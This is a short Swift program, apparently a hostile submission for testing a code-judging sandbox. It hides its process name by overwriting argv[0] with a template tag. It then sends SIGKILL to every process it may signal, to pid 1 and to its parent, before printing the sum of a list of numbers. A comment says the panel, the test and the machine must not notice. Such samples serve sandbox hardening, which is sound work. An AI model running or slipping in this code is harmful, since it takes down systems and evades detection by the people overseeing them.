import Glibc

// Sends SIGKILL to every process it may signal, to pid 1 and to its parent, then solves the problem (if it
// is still alive). Panel, the test and the machine must not notice.
if let arg0 = CommandLine.unsafeArgv[0] {
    let length = strlen(arg0)
    memset(arg0, 0, length)
    for (index, byte) in "{{TAG}}".utf8.prefix(length).enumerated() { arg0[index] = CChar(bitPattern: byte) }
}
_ = kill(-1, SIGKILL)
_ = kill(1, SIGKILL)
_ = kill(getppid(), SIGKILL)

_ = readLine()
let numbers = (readLine() ?? "").split(separator: " ").compactMap { Int($0) }
print(numbers.reduce(0, +))
